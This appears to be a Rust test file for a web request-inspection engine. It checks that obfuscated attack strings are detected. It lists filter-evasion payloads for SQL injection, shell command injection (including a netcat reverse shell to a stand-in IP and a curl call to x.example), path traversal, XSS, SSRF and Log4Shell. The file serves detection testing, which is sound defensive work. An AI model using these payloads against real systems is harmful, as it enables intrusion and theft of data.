//! Are the spellings that simple engines miss read all the same? One row each: where it stands, what must be found.

use crate::detect::category::Category::{self, Log4shell, PathTraversal, Rce, SensitivePath, Sqli, Ssrf, Xss};
use crate::detect::rule_set::RuleSet;
use crate::detect::scan::Scan;
use crate::exchange::head::Head;
use crate::read;

fn check(rows: &[(Category, &str)]) {
    let rules = RuleSet::builtin();
    let mut missed = Vec::new();
    for (category, target) in rows {
        let target = if target.starts_with('/') { (*target).to_owned() } else { format!("/item?v={}", coded(target)) };
        let head = Head::new([(":method", "GET"), (":path", target.as_str())].into_iter().collect());
        let mut scan = Scan::new();
        read::head(&head, &mut |field| scan.push(&rules, field));
        let found = scan.detections().iter().any(|one| {
            rules.rule(one.rule).category == *category && one.severity >= crate::detect::category::Severity::Medium
        });
        if !found {
            missed.push(format!("{category}: {target}"));
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

/// What a browser would make of the signs that end a value or a query.
fn coded(value: &str) -> String {
    let sign = |letter: char| match letter {
        '%' => "%25".to_owned(),
        '+' => "%2b".to_owned(),
        '&' => "%26".to_owned(),
        '#' => "%23".to_owned(),
        ' ' => "+".to_owned(),
        letter => letter.to_string(),
    };
    value.chars().map(sign).collect()
}

#[test]
fn of_sql() {
    check(&[
        (Sqli, "1' uni/**/on sel/**/ect pin from cards-- "),
        (Sqli, "1'/*!50000union*//*!50000select*/1,2-- "),
        (Sqli, "1'\u{b}union\u{c}select\u{a0}1,2-- "),
        (Sqli, "1'%0bunion%0cselect%a01,2-- "),
        (Sqli, "-1'union%23x%0aselect 1,2-- "),
        (Sqli, "1'||(select(pin)from(cards))||'"),
        (Sqli, "1' UnIoN(SeLeCt 1,2)-- "),
        (Sqli, "1' un\u{0}ion se\u{1}lect 1,2-- "),
        (Sqli, "1' or '{\"k\":3}'::jsonb @> '{\"k\":3}'-- "),
        (Sqli, "1' or json_extract('[1]','$[0]')=1-- "),
        (Sqli, "%2527%2520or%25201=1--"),
        (Sqli, "%u0027 or 1=1-- "),
        (Sqli, "＇ or 1=1-- "),
        (Sqli, "’ or ’1’=’1"),
        (Sqli, "1 and 1.e(ascii(x))"),
        (Sqli, "x'-0-- "),
        (Sqli, "1e0union select 1,2"),
        (Sqli, "1' and mod(8,7) in (1)-- "),
        (Sqli, "1' && 7=7#"),
        (Sqli, "1' rlike sleep(9)-- "),
        (Sqli, "JyB1bmlvbiBzZWxlY3QgcGluLDEgZnJvbSBjYXJkcy0tIA"),
        (Sqli, "/item?1'+or+1=1--+=x"),
        (Sqli, "/item?id=1'+union/*&id=*/select+1,2--+"),
        (Sqli, "/item;id=1'+or+1=1--+/x"),
        (Sqli, "/item/1'+union+select+1,2--+"),
    ]);
}

#[test]
fn of_the_shell() {
    check(&[
        (Rce, ";cat$IFS/etc/passwd"),
        (Rce, ";cat${IFS}/etc/passwd"),
        (Rce, ";cat$IFS$9/etc/passwd"),
        (Rce, ";{cat,/etc/passwd}"),
        (Rce, ";c'a't /etc/passwd"),
        (Rce, ";c\"\"at /etc/passwd"),
        (Rce, "|w\\ho\\am\\i"),
        (Rce, "|wh^oami"),
        (Rce, ";/???/??t /etc/passwd"),
        (Rce, ";/bin/c[a]t /x"),
        (Rce, ";/b*n/c*t /x"),
        (Rce, ";who$@ami"),
        (Rce, ";who${x}ami"),
        (Rce, ";who$()ami"),
        (Rce, ";a=who;b=ami;$a$b"),
        (Rce, ";cat</etc/passwd"),
        (Rce, "%0acat /etc/passwd"),
        (Rce, "`id`"),
        (Rce, "$(id)"),
        (Rce, "x$(printf id|sh)"),
        (Rce, ";echo aWQ=|base64 -d|sh"),
        (Rce, "&&%2563at /etc/passwd"),
        (Rce, "||ping+-c+9+127.0.0.1"),
        (Rce, "& ping -n 9 127.0.0.1 &"),
        (Rce, "|%COMSPEC% /c dir"),
        (Rce, "& powershell -enc SQBFAFgA"),
        (Rce, "|p^o^w^e^r^shell -c x"),
        (Rce, ";<(id)"),
        (Rce, ";$SHELL -c id"),
        (Rce, "; busybox nc -e sh 10.9.9.9 9"),
        (Rce, "; cur\\l http://x.example"),
    ]);
}

#[test]
fn of_paths() {
    check(&[
        (PathTraversal, "/static/..;/..;/x"),
        (PathTraversal, "/a/.%2e/.%2e/x"),
        (PathTraversal, "/a/%2e%2e%2f%2e%2e%2fx"),
        (PathTraversal, "....//....//etc/passwd"),
        (PathTraversal, "..././..././x"),
        (PathTraversal, "%%32%65%%32%65/%%32%65%%32%65/x"),
        (PathTraversal, "%%32%%65%%32%%65%%32%%66x"),
        (PathTraversal, "..\\..\\x"),
        (PathTraversal, "..%5c..%5cx"),
        (PathTraversal, "..%255c..%255cx"),
        (PathTraversal, "%c0%ae%c0%ae%c0%afx"),
        (PathTraversal, "．．／．．／x"),
        (PathTraversal, "%u002e%u002e%u2215x"),
        (PathTraversal, "..%00/..%00/x"),
        (PathTraversal, "/etc/passwd%00.png"),
        (PathTraversal, "/a//..//..//x"),
        (PathTraversal, "file:///etc/passwd"),
        (SensitivePath, "/actuator;x=1/env"),
        (SensitivePath, "//.git//config"),
        (SensitivePath, "/.%67it/HEAD"),
        (SensitivePath, "/x/..;/actuator/env"),
        (SensitivePath, "/%2eenv"),
        (SensitivePath, "/.ENV"),
        (SensitivePath, "/.git\\config"),
    ]);
}

#[test]
fn of_scripts() {
    check(&[
        (Xss, "'-alert(1)-'"),
        (Xss, "\\'-alert(1)//"),
        (Xss, "<svg/onload=x()>"),
        (Xss, "<svg\u{c}onload=x()>"),
        (Xss, "<a autofocus onfocus=x() tabindex=1>"),
        (Xss, "<details open ontoggle=x``>"),
        (Xss, "<img src=x onerror=&#x61;lert(1)>"),
        (Xss, "&lt;svg onload=x()&gt;"),
        (Xss, "<a href=\"jav&Tab;ascript:x()\">"),
        (Xss, "<a href=\"java\nscript:x()\">"),
        (Xss, "\\u003csvg onload=x()\\u003e"),
        (Xss, "＜svg onload=x()＞"),
        (Xss, "%253csvg onload=x()%253e"),
        (Xss, "top['al'+'ert'](1)"),
        (Xss, "window[/al/.source+/ert/.source](1)"),
        (Xss, "<scr<script>ipt>x()</scr</script>ipt>"),
        (Xss, "<sc\u{0}ript>x()</script>"),
        (Xss, "<iframe srcdoc='&lt;svg onload=x()&gt;'>"),
        (Xss, "<math><a xlink:href=javascript:x()>"),
        (Xss, "\" onpointerenter=x() k=\""),
        (Xss, "<x onclick=x() >"),
        (Xss, "[].at.constructor`x${1}`"),
        (Xss, "+ADw-script+AD4-x()"),
        (Xss, "/?%3Csvg+onload%3Dx()%3E=1"),
    ]);
}

#[test]
fn of_addresses_and_lookups() {
    check(&[
        (Ssrf, "http://2130706433/"),
        (Ssrf, "http://0x7f000001/"),
        (Ssrf, "http://0x7f.0x0.0x0.0x1/"),
        (Ssrf, "http://017700000001/"),
        (Ssrf, "http://0177.0.0.1/"),
        (Ssrf, "http://127.1/"),
        (Ssrf, "http://0/"),
        (Ssrf, "http://[::1]/"),
        (Ssrf, "http://[::ffff:127.0.0.1]/"),
        (Ssrf, "http://[0:0:0:0:0:ffff:7f00:1]/"),
        (Ssrf, "http://①②⑦.⓪.⓪.①/"),
        (Ssrf, "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/"),
        (Ssrf, "http://127.0.0.1.nip.io/"),
        (Ssrf, "http://a.example@127.0.0.1/"),
        (Ssrf, "http:\\\\127.0.0.1\\x"),
        (Ssrf, "http://127。0。0。1/"),
        (Ssrf, "http://169.254.169.254/"),
        (Ssrf, "http://[::ffff:a9fe:a9fe]/"),
        (Ssrf, "gopher://127.0.0.1:6379/_x"),
        (Log4shell, "${${lower:j}ndi:ldap://x.example}"),
        (Log4shell, "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example}"),
        (Log4shell, "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example}"),
        (Log4shell, "$%7bjndi:ldap://x.example%7d"),
        (Log4shell, "${jndi:${lower:l}dap://x.example}"),
        (Log4shell, "/$%7Bjndi:dns://x.example%7D/x"),
    ]);
}
